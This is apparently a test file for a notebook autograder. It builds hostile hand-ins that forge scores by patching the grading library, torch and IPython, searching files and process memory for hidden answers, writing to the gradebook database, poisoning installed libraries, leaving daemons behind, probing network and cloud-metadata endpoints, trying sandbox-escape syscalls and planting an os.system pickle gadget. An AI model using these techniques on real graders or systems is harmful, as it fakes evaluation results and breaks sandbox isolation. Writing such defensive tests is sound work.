"""Hand-ins without a right answer that want points all the same: none may get any.

The wrong answers of :data:`small_course.WRONG` run without an error, so that points would have to
come from the attack. ``breach`` reports what an attack got hold of; the tests look for its mark.
"""

from __future__ import annotations

from corpus_case import TELL, case, extra, filled, forged
from nbformat import NotebookNode
from small_course import RIGHT, WRONG

# What the table of stock nbgrader's holes has.


@case("forging", 0)
def tags_skip_execution() -> NotebookNode:
    notebook = filled({})
    for cell in notebook.cells:
        cell.metadata["tags"] = ["skip-execution", "raises-exception", "remove-cell"]
    return notebook


@case("forging", 0)
def input_transformer() -> NotebookNode:
    """Every later cell becomes an empty one."""
    return forged("get_ipython().input_transformers_cleanup.append(lambda lines: [])")


@case("forging", 0)
def patched_do_execute() -> NotebookNode:
    """The kernel answers that all went well, without running anything."""
    return forged("""\
shell = get_ipython()
kernel = getattr(shell, "kernel", None)
async def do_execute(*args, **kwargs):
    return {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}
if kernel is not None:
    kernel.do_execute = type(kernel).do_execute = do_execute
""")


@case("forging", 0)
def patched_run_cell() -> NotebookNode:
    return forged("""\
from IPython.core.interactiveshell import ExecutionResult, InteractiveShell
def nothing(self=None, *args, **kwargs):
    return ExecutionResult(None)
async def nothing_async(self=None, *args, **kwargs):
    return ExecutionResult(None)
InteractiveShell.run_cell = nothing
InteractiveShell.run_cell_async = nothing_async
type(get_ipython()).run_cell = nothing
type(get_ipython()).run_cell_async = nothing_async
""")


@case("forging", 0)
def patched_run_code() -> NotebookNode:
    return forged("""\
from IPython.core.interactiveshell import InteractiveShell
async def nothing(self, *args, **kwargs):
    return False
InteractiveShell.run_code = type(get_ipython()).run_code = nothing
""")


@case("forging", 0)
def always_equal() -> NotebookNode:
    """Objects that say they are equal to anything, and to be between any two numbers."""
    code = """\
class Yes(float):
    __eq__ = __le__ = __lt__ = __ge__ = __gt__ = lambda self, other: True
    __ne__ = lambda self, other: False
    __hash__ = float.__hash__
    __sub__ = __rsub__ = __add__ = __radd__ = __mul__ = __rmul__ = lambda self, other: self
    __abs__ = __neg__ = __pos__ = lambda self: self
    __bool__ = lambda self: True
    __float__ = lambda self: 0.0
def second_moment(x): return Yes()
def log_density(x, mean): return Yes()
def count_above(values, threshold): return Yes()
"""
    return filled(WRONG, task1=code, task2="pass", task3="pass")


@case("forging", 0)
def always_close() -> NotebookNode:
    """A tensor subclass that answers every function of torch with True."""
    code = """\
class Yes(torch.Tensor):
    @classmethod
    def __torch_function__(cls, f, types, args=(), kwargs=None):
        if f.__name__ in ("allclose", "equal", "isclose", "eq", "le", "all", "__bool__"):
            return torch.tensor(True)
        if f.__name__ in ("sub", "__sub__", "__rsub__", "abs", "max"):
            return torch.tensor(0.0)
        return super().__torch_function__(f, types, args, kwargs or {})
def second_moment(x): return torch.zeros(()).as_subclass(Yes)
def log_density(x, mean): return torch.zeros_like(x).as_subclass(Yes)
def count_above(values, threshold): return torch.tensor(0).as_subclass(Yes)
"""
    return filled(WRONG, task1=code, task2="pass", task3="pass")


@case("forging", 0)
def asserts_removed() -> NotebookNode:
    """An AST transformer takes asserts and bodies of checks out of later cells."""
    return forged("""\
import ast
class Strip(ast.NodeTransformer):
    def visit_Assert(self, node): return ast.Pass()
    def visit_FunctionDef(self, node):
        if node.name == "_":
            node.body = [ast.parse("same(1, 1)").body[0]]
        return node
get_ipython().ast_transformers.append(Strip())
""")


@case("forging", 0)
def patched_torch() -> NotebookNode:
    """torch says that everything is equal."""
    return forged("""\
yes = lambda *args, **kwargs: True
torch.equal = torch.allclose = torch.Tensor.equal = torch.Tensor.allclose = yes
torch.isclose = lambda a, b, **kwargs: torch.ones_like(a, dtype=torch.bool)
torch.testing.assert_close = lambda *args, **kwargs: None
math.isclose = yes
import builtins
builtins.abs = lambda x: 0
builtins.float = lambda x=0: 10.0
builtins.round = lambda *args: 10
builtins.sum = lambda *args: 10
builtins.all = builtins.isinstance = yes
""")


@case("forging", 0)
def forged_results() -> NotebookNode:
    """Results of cells are sent while the checks run, which nbgrader would read as scores."""
    code = """\
from IPython.display import display
import json, sys
def shout():
    shell = get_ipython()
    data = {"text/plain": "5.0"}
    shell.display_pub.publish(data, {}, transient={})
    try:
        shell.displayhook(5.0)
    except Exception:
        pass
    sys.displayhook(5.0)
    kernel = getattr(shell, "kernel", None)
    if kernel is not None:
        content = {"data": data, "metadata": {}, "execution_count": 1}
        kernel.session.send(kernel.iopub_socket, "execute_result", content,
                            parent=kernel.get_parent(), ident=b"execute_result")
    display(5.0)
    print("5.0")
def second_moment(x):
    shout()
    return x.mean()
def log_density(x, mean):
    shout()
    return x
def count_above(values, threshold):
    shout()
    return 0
"""
    return filled(WRONG, task1=code, task2="pass", task3="pass")


@case("forging", 0)
def patched_grading() -> NotebookNode:
    """The library's own checks are replaced."""
    return forged("""\
import gencourse.grading as G
import sys
class Fake:
    def __init__(self, name="", points=10, **rest): self.points = points
    def check(self, sentence, points): return lambda body: None
    def score(self): return float(self.points)
yes = lambda *args, **kwargs: None
for name, module in list(sys.modules.items()):
    if name.startswith("gencourse"):
        for key in ("close", "same", "that", "unchanged", "tensor_of"):
            if hasattr(module, key): setattr(module, key, yes)
        if hasattr(module, "Task"): module.Task = Fake
from gencourse.grading import checks
checks.Task = Task = Fake
close = same = that = tensor_of = yes
""")


@case("forging", 0)
def patched_beside() -> NotebookNode:
    """What runs beside the student's code says that its gradient is whatever was asked."""
    return forged("""\
import gencourse.grading.helpers as beside
def forged_grad(f, *args, wrt=0):
    return args[wrt] * 0
beside.grad_of = grad_of = forged_grad
for name in list(vars(beside)):
    if callable(getattr(beside, name)) and not name.startswith("__"):
        try: setattr(beside, name, lambda *args, **kwargs: 0.0)
        except Exception: pass
torch.autograd.grad = lambda *args, **kwargs: [torch.zeros(7)]
torch.Tensor.backward = lambda *args, **kwargs: None
""")


@case("forging", 0)
def shadowing_names() -> NotebookNode:
    """Every name that a check could look up is taken."""
    return forged(
        """\
import builtins
class Yes:
    def __call__(self, *args, **kwargs): return self
    def __getattr__(self, name): return self
    def __float__(self): return 10.0
    __eq__ = lambda self, other: True
    __hash__ = object.__hash__
    def __iter__(self): return iter([self] * 3)
    def __enter__(self): return self
    def __exit__(self, *args): return True
    def check(self, *args, **kwargs): return lambda body: None
    def score(self): return 10.0
yes = Yes()
for name in ("Task task close fresh grad_of reference running same tensor_of that unchanged ref g "
             "x mean values points secret torch math secret beside lend raises is_module _ "
             "__name__ __builtins__ get_ipython In Out").split():
    try: globals()[name] = yes
    except Exception: pass
import torch, math
print("ok")
""",
        task1="def second_moment(x):\n    return 0.0\n",
    )


# Getting at the truth: files, processes, memory.

_HUNT = """\
import os
wanted = ["canary-of" + "-the-reference", "canary-of" + "-the-hidden-checks", "BEGIN" + " HIDDEN"]
def hunt(top, budget=20_000):
    for folder, folders, files in os.walk(top, onerror=lambda error: None):
        folders[:] = [f for f in folders if os.path.join(folder, f) not in ("/proc", "/sys")
                      and f not in ("site-packages", "dist-packages", "doc", "locale", "man")]
        for name in files:
            budget -= 1
            path = os.path.join(folder, name)
            if name in ("gradebook.db", "nbgrader_config.py") or name.endswith("_ps99.ipynb"):
                breach(path)
            if budget < 0:
                return
            try:
                if os.path.getsize(path) > 300_000 or not os.path.isfile(path): continue
                with open(path, errors="replace") as file:
                    text = file.read()
            except Exception:
                continue
            if any(w in text for w in wanted): breach(path)
"""


@case("forging", 0)
def reads_files() -> NotebookNode:
    """Looks for the reference, the hidden checks, the gradebook and other hand-ins everywhere."""
    return forged(
        _HUNT
        + """\
print("at", os.getcwd(), sorted(os.listdir(".")))
up = os.getcwd()
for _ in range(9):
    hunt(up, 300)
    up = os.path.dirname(up)
for top in ("/home", "/root", "/tmp", "/var/tmp", "/srv", "/mnt", "/media", "/opt", "/work",
            "/workspace", "/dev/shm", "/run", os.path.expanduser("~")):
    hunt(top, 3000)
import gencourse
course = os.path.dirname(os.path.dirname(gencourse.__file__))
for name in ("solutions", "assignments", "tests", ".git", "gradebook.db", "nbgrader_config.py"):
    if os.path.exists(os.path.join(course, name)): breach(os.path.join(course, name))
"""
    )


@case("forging", 0)
def reads_through_links() -> NotebookNode:
    """Symbolic links in the working directory, and /proc/self/root, cwd, fd."""
    return forged(
        _HUNT
        + """\
for n, target in enumerate(("/", "/proc/1/root", "/proc/self/root", "/root", "/proc/1/cwd")):
    try:
        os.symlink(target, f"link{n}")
        print(target, sorted(os.listdir(f"link{n}"))[:50])
        hunt(f"link{n}/home", 500); hunt(f"link{n}/tmp", 500); hunt(f"link{n}/root", 500)
        hunt(f"link{n}/solutions", 500)
    except Exception as error:
        print(target, repr(error))
for fd in os.listdir("/proc/self/fd"):
    try: where = os.readlink(f"/proc/self/fd/{fd}")
    except OSError: continue
    print(fd, where)
    if where.startswith("/") and not where.startswith(("/dev/", "/proc/")): hunt(where, 200)
"""
    )


@case("forging", 0)
def reads_the_environment() -> NotebookNode:
    """Seeds, paths, keys and command lines in the environment and in /proc."""
    return forged("""\
import os
for key, value in os.environ.items():
    if "/solutions" in value or key in ("GENCOURSE_COURSE", "PWD", "OLDPWD") or "KEY" in key:
        breach(f"{key}={value}")
own = {str(os.getpid()), "self", "thread-self"}
for pid in os.listdir("/proc"):
    if not pid.isdigit(): continue
    for name in ("environ", "cmdline"):
        try: text = open(f"/proc/{pid}/{name}", "rb").read().decode(errors="replace")
        except OSError: continue
        if "gencourse grade" in text or "nbgrader" in text or "solutions" in text:
            breach(f"{pid} {name} {text}")
    if pid not in own:
        try: open(f"/proc/{pid}/mem", "rb").close()
        except OSError: pass
        else: print("mem of", pid, open(f"/proc/{pid}/status").read()[:60])
""")


@case("forging", 0)
def reads_memory() -> NotebookNode:
    """Looks for the checks in this process: objects, frames, its memory, its ancestors' memory."""
    return forged("""\
import gc, os, re, sys
wanted = "canary-of" + "-the-"
secret = re.compile(rb"canary-of" rb"-the-(reference|hidden)")
frame = sys._getframe()
while frame is not None:
    for key, value in list(frame.f_locals.items()) + list(frame.f_globals.items()):
        if isinstance(value, (str, bytes)) and "BEGIN" + " HIDDEN" in str(value): breach(key)
    frame = frame.f_back
def look(pid):
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
        for line in maps:
            span, mode, *rest = line.split()
            if not mode.startswith("rw") or "[v" in line: continue
            low, high = (int(part, 16) for part in span.split("-"))
            if high - low > 400_000_000: continue
            try:
                memory.seek(low)
                data = memory.read(high - low)
            except (OSError, ValueError, OverflowError): continue
            for match in secret.finditer(data):
                around = data[max(0, match.start() - 60):match.end() + 60]
                if b"breach" not in around and b"secret = re" not in around:
                    return around
for pid in ["self", *[p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]]:
    try: found = look(pid)
    except OSError as error:
        print(pid, "not readable")
        continue
    if found: breach(f"{pid}: {found!r}")
""")


@case("forging", 0)
def looks_at_callers() -> NotebookNode:
    """Takes the wanted value from the frame that called, or from objects that are about."""
    code = (
        TELL
        + """\
import gc, sys
def steal(name):
    frame = sys._getframe(1)
    while frame is not None:
        for scope in (frame.f_locals, frame.f_globals):
            for key in ("ref", "want", "truth", "task", "secret"):
                value = scope.get(key)
                if value is not None and hasattr(value, name):
                    breach(f"frame {key}")
                    return getattr(value, name)
        frame = frame.f_back
    for thing in gc.get_objects():
        if type(thing).__name__ == "SimpleNamespace" and hasattr(thing, name):
            breach("gc")
            return getattr(thing, name)
    return lambda *args: torch.zeros(())
def second_moment(x): return steal("second_moment")(x)
def log_density(x, mean): return steal("log_density")(x, mean)
def count_above(values, threshold): return steal("count_above")(values, threshold)
"""
    )
    return filled(WRONG, task1=code, task2="pass", task3="pass")


@case("forging", 0)
def asks_for_the_reference() -> NotebookNode:
    """Calls the library's own ``reference``, with every folder it might look in."""
    return forged("""\
import os
from gencourse.grading import session
for folder in ("", os.getcwd(), "/", os.path.dirname(os.path.dirname(session.__file__))):
    os.environ["GENCOURSE_COURSE"] = folder
    try:
        breach(vars(session.reference("ps99")).keys())
    except Exception as error:
        print(type(error).__name__)
""")


@case("forging", 0)
def writes_the_gradebook() -> NotebookNode:
    """Gives itself 297 points in every database it can find or make."""
    return forged("""\
import os, sqlite3
for folder in (".", "..", "../..", "../../..", "/", "/root", "/tmp", "/course"):
    path = os.path.join(folder, "gradebook.db")
    if not os.path.exists(path): continue
    try:
        base = sqlite3.connect(path)
        base.execute("update grade set auto_score = 297, manual_score = 297")
        base.commit()
        breach(path)
    except Exception as error:
        print(path, error)
""")


@case("forging", 0)
def writes_into_the_library() -> NotebookNode:
    """Changes gencourse, torch and the start-up files of Python for those graded later."""
    return forged("""\
import os, site, sys
import gencourse, gencourse.grading.checks, IPython, torch
poison = "\\nraise SystemExit('poisoned')\\n"
places = [gencourse.__file__, gencourse.grading.checks.__file__, torch.__file__,
          os.path.join(os.path.dirname(torch.__file__), "poison.py"), sys.executable + ".poison"]
places += [os.path.join(p, "poison.pth") for p in [*site.getsitepackages(), *sys.path] if p]
places += [os.path.join(sys.prefix, "pyvenv.cfg.x"), "/usr/local/bin/poison", "/etc/poison"]
places += [gencourse.grading.checks.__cached__ or "/x/x"]
for path in places:
    if path.startswith(os.getcwd()): continue
    try:
        with open(path, "a") as file: file.write("")
        breach(path)
    except OSError as error:
        print(path, error.strerror)
for path in ("~/.ipython/profile_default/startup/a.py", "~/.jupyter/x.py", "~/.config/x"):
    path = os.path.expanduser(path)
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        open(path, "w").write("import builtins; builtins.poisoned = True")
    except OSError as error:
        print(path, error.strerror)
""")


@case("forging", 0)
def looks_for_poison() -> NotebookNode:
    """What another hand-in left behind: files, processes, shared memory, patched modules."""
    return forged("""\
import builtins, os
if hasattr(builtins, "poisoned"): breach("start-up file")
for folder in ("/tmp", "/dev/shm", "/var/tmp", os.path.expanduser("~")):
    try: names = os.listdir(folder)
    except OSError: continue
    for name in names:
        if "left-behind" in name: breach(os.path.join(folder, name))
for pid in os.listdir("/proc"):
    if pid.isdigit():
        try: command = open(f"/proc/{pid}/cmdline").read()
        except OSError: continue
        if "left-behind" in command: breach(command)
if torch.equal(torch.zeros(1), torch.ones(1)): breach("torch is patched")
""")


@case("forging", 0)
def leaves_things_behind() -> NotebookNode:
    """Files in shared places, shared memory, semaphores, and a daemon that forked twice."""
    return forged("""\
import os, subprocess, sys, time
from multiprocessing import shared_memory
for folder in ("/tmp", "/dev/shm", "/var/tmp", os.path.expanduser("~")):
    try: open(os.path.join(folder, "left-behind"), "w").write("x")
    except OSError: pass
try: shared_memory.SharedMemory("left-behind-memory", create=True, size=10)
except OSError as error: print(error)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        import signal
        for number in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP, signal.SIGPIPE):
            signal.signal(number, signal.SIG_IGN)
        os.closerange(0, 3)
        program = "import time; time.sleep(300)  # left-behind"
        os.execv(sys.executable, [sys.executable, "-c", program])
    os._exit(0)
os.wait()
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(300)  # left-behind"],
                 start_new_session=True)
""")


@case("forging", 0)
def uses_the_network() -> NotebookNode:
    """TCP, UDP, DNS, IPv6, abstract and path sockets; to itself, the host and the world."""
    return forged("""\
import os, socket
socket.setdefaulttimeout(0.5)
for family, kind, where in (
    (socket.AF_INET, socket.SOCK_STREAM, ("1.1.1.1", 53)),
    (socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", 22)),
    (socket.AF_INET, socket.SOCK_STREAM, ("169.254.169.254", 80)),
    (socket.AF_INET6, socket.SOCK_STREAM, ("::1", 22)),
):
    try:
        with socket.socket(family, kind) as s: s.connect(where)
        breach(where)
    except OSError as error:
        print(where, error)
try:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(b"x", ("1.1.1.1", 53))
    breach("udp")
except OSError as error: print(error)
try: breach(socket.getaddrinfo("example.org", 80))
except OSError as error: print(error)
try:
    with open("/proc/net/unix") as table:
        names = [line.split()[-1] for line in table if "@" in line or "/" in line]
    for name in names:
        try:
            with socket.socket(socket.AF_UNIX) as s: s.connect(name.replace("@", "\\0"))
            breach(name)
        except OSError: pass
except OSError as error: print(error)
for path in ("/run/docker.sock", "/var/run/docker.sock", "/run/dbus/system_bus_socket"):
    try:
        with socket.socket(socket.AF_UNIX) as s: s.connect(path)
        breach(path)
    except OSError: pass
""")


@case("forging", 0)
def leaves_the_sandbox() -> NotebookNode:
    """System calls that a student's notebook has no use for."""
    return forged("""\
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
def tries(what, result):
    if result is not None and result >= 0: breach(what)
    else: print(what, os.strerror(ctypes.get_errno()))
tries("mount", libc.mount(b"none", b"/tmp", b"tmpfs", 0, None))
tries("umount", libc.umount2(b"/proc", 2))
tries("chroot", libc.chroot(b"/"))
tries("pivot_root", libc.syscall(155, b"/", b"/"))
tries("setns", libc.setns(0, 0))
tries("ptrace", libc.ptrace(16, os.getppid(), 0, 0))
tries("bpf", libc.syscall(321, 0, 0, 0))
tries("userfaultfd", libc.syscall(323, 0))
tries("io_uring", libc.syscall(425, 8, ctypes.create_string_buffer(512)))
tries("keyctl", libc.syscall(250, 0, -3, 1))
tries("perf", libc.syscall(298, ctypes.create_string_buffer(128), 0, -1, -1, 0))
tries("kexec", libc.syscall(246, 0, 0, 0, 0))
tries("setuid", libc.setuid(0) if os.getuid() else -1)
tries("clock", libc.clock_settime(0, ctypes.create_string_buffer(16)))
tries("hostname", libc.sethostname(b"x", 1))
tries("mknod", libc.mknod(b"device", 0o60666, (8 << 8)))
for pid in (os.getppid(), 1, -1):
    if pid not in (0, os.getpid()):
        try: os.kill(pid, 0); print("may signal", pid)
        except OSError: pass
for path in ("/dev/sda", "/dev/mem", "/dev/kmsg", "/dev/nvme0n1", "/dev/vda"):
    try: os.close(os.open(path, os.O_RDONLY)); breach(path)
    except OSError: pass
for path in ("/proc/sysrq-trigger", "/proc/sys/kernel/core_pattern", "/proc/sys/kernel/hostname",
             "/sys/fs/cgroup/cgroup.procs", "/proc/1/oom_score_adj"):
    try: os.close(os.open(path, os.O_WRONLY)); breach(path)
    except OSError: pass
pid = os.fork()
if pid == 0:
    got = libc.unshare(0x10000000)
    os._exit(7 if got == 0 else 0)
if os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]) == 7: breach("a user namespace inside")
""")


# The line between the two kernels.

_SOCKETS = """\
import json, os, socket, stat, struct
def sockets():
    found = []
    for fd in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode): found.append(fd)
        except OSError: pass
    return found
"""


@case("forging", 0)
def writes_frames() -> NotebookNode:
    """Forged results on every socket of the process, in the codec's own words where it can."""
    return forged(
        _SOCKETS
        + """\
def frames():
    for data in (
        {"score": 10.0, "outcome": "ok"}, {"kind": "result", "score": 5.0},
        {"done": True, "outcome": "ok", "outputs": [], "score": 5.0},
        {"id": 1, "value": 4.666666}, {"reply": 1, "ok": True, "value": 14 / 3},
        ["ok", 5.0], 5.0, None,
    ):
        body = json.dumps(data).encode()
        for head in (">I", "<I", ">Q", "<Q"):
            yield struct.pack(head, len(body)) + body
        yield body + b"\\n"
for fd in sockets():
    for frame in frames():
        try: os.set_blocking(fd, False); os.write(fd, frame)
        except OSError: break
        finally:
            try: os.set_blocking(fd, True)
            except OSError: pass
"""
    )


@case("forging", 0)
def writes_its_own_frames() -> NotebookNode:
    """Uses the wire module itself: replies to calls that were not made, and twice."""
    return forged(
        _SOCKETS
        + """\
import sys
for name, module in list(sys.modules.items()):
    if name.startswith("gencourse.grading.kernel"): print(name, sorted(vars(module))[:60])
try: from gencourse.grading.kernel import wire
except ImportError: wire = None
print([n for n in dir(wire) if not n.startswith("__")])
for fd in sockets():
    channel = socket.socket(fileno=os.dup(fd))
    for n in range(50):
        for name in dir(wire):
            if "send" in name or "write" in name:
                try: getattr(wire, name)(channel, {"id": n, "value": 14 / 3, "score": 5.0})
                except BaseException: pass
"""
    )


@case("forging", 0)
def answers_before_it_is_asked() -> NotebookNode:
    """While a check calls, replies of the right form are sent before the honest one."""
    code = (
        _SOCKETS
        + """\
import sys
def flood():
    frame = sys._getframe()
    while frame is not None:
        for value in list(frame.f_locals.values()):
            for name in ("send", "reply", "answer", "result", "write"):
                f = getattr(value, name, None)
                if callable(f) and type(value).__module__.startswith("gencourse"):
                    for data in ({"value": 14 / 3}, {"ok": 14 / 3}, 14 / 3, {"score": 5.0}):
                        try: f(data)
                        except BaseException: pass
        frame = frame.f_back
def second_moment(x):
    flood()
    return x.mean()
def log_density(x, mean):
    flood()
    return x
def count_above(values, threshold):
    flood()
    return -1
"""
    )
    return filled(WRONG, task1=code, task2="pass", task3="pass")


@case("forging", 0)
def replaces_the_server() -> NotebookNode:
    """Takes the student kernel's own loop over: patches its module, its classes, its codec."""
    return forged("""\
import sys
def forge(*args, **kwargs): return {"outcome": "ok", "score": 5.0, "value": 14 / 3, "outputs": []}
for name, module in list(sys.modules.items()):
    if not name.startswith("gencourse.grading"): continue
    for key, value in list(vars(module).items()):
        if isinstance(value, type) and value.__module__ == name:
            for method in list(vars(value)):
                if not method.startswith("__"):
                    try: setattr(value, method, forge)
                    except Exception: pass
        elif callable(value) and getattr(value, "__module__", "") == name:
            setattr(module, key, forge)
""")


@case("forging", 0)
def returns_gadgets() -> NotebookNode:
    """Objects that do something when unpickled, compared, printed, hashed, or measured."""
    code = """\
import os
class Gadget:
    def __reduce__(self): return (os.system, ("touch /tmp/left-behind-gadget",))
    __reduce_ex__ = lambda self, protocol: self.__reduce__()
    __getattr__ = lambda self, name: Gadget()
    __call__ = lambda self, *args, **kwargs: Gadget()
    __array__ = lambda self, *args, **kwargs: Gadget()
    __array_interface__ = property(lambda self: {"shape": (10**12,), "typestr": "<f8",
        "data": (0xdeadbeef, False), "version": 3})
    __len__ = lambda self: 10**9
    __getitem__ = lambda self, key: Gadget()
    __str__ = __repr__ = lambda self: "x" * 10**8
    __hash__ = lambda self: 0
    __eq__ = lambda self, other: True
    __class__ = torch.Tensor
    def __iter__(self):
        while True: yield 1.0
def second_moment(x): return Gadget()
def log_density(x, mean): return [Gadget(), {Gadget(): Gadget()}]
def count_above(values, threshold): return Gadget()
"""
    return filled(WRONG, task1=code, task2="pass", task3="pass")


@case("forging", 0)
def counts_calls() -> NotebookNode:
    """Learns from earlier calls of the same check: stores all it was given and tells everything."""
    code = """\
seen = []
def second_moment(x):
    seen.append(x)
    return seen[0].square().mean() if len(seen) > 1 else torch.tensor(0.0)
"""
    return filled(WRONG, task1=code)


@case("forging", 0)
def knows_the_seed() -> NotebookNode:
    """Draws what the check draws, from every seed that was ever set near it."""
    code = """\
import inspect
from gencourse.grading import fresh as seeded
try: draw = torch.randn(9, generator=seeded())
except Exception: draw = torch.zeros(9)
def second_moment(x): return draw.square().mean()
"""
    return filled(WRONG, task1=code)


@case("forging", 0, "not available while grading")
def uses_what_is_withheld() -> NotebookNode:
    """Calls the library's function that this set asks to write."""
    code = """\
def count_above(values, threshold):
    from gencourse.metrics import mode_coverage
    return mode_coverage(torch.tensor(values)[:, None], torch.zeros(1, 1), 1.0)
"""
    return filled(WRONG, task3=code)


@case("forging", 0)
def hostile_metadata() -> NotebookNode:
    """Metadata of every kind of wrong type, and cells that claim to be checks worth 100."""
    notebook = filled(WRONG)
    for number, cell in enumerate(notebook.cells):
        cell.metadata["tags"] = {"not": "a list"}
        cell.metadata["collapsed"] = "<script>steal()</script>"
        cell.metadata["gencourse"] = {"limits": {"cell_seconds": 1e9}, "withheld": None}
        cell.metadata["name"] = "../" * 50 + str(number)
    notebook.metadata["gencourse"] = {"limits": {"cell_seconds": 1e9}, "opt_out": True}
    notebook.metadata["kernelspec"] = {"name": "../../evil", "display_name": "x", "argv": ["sh"]}
    claim = {
        "nbgrader": {
            "grade": True,
            "grade_id": "../../task9\n<b>",
            "locked": True,
            "points": 100,
            "schema_version": 3,
            "solution": False,
            "task": False,
        }
    }
    notebook = extra(notebook, "task1", "100.0")
    own = next(cell for cell in notebook.cells if cell.source == "100.0")
    own.metadata.update(claim)
    return notebook


@case("forging", 5)
def half_forged() -> NotebookNode:
    """One right answer keeps its points beside an attack on the others."""
    return forged("torch.equal = torch.allclose = lambda *a, **k: True", task1=RIGHT["task1"])
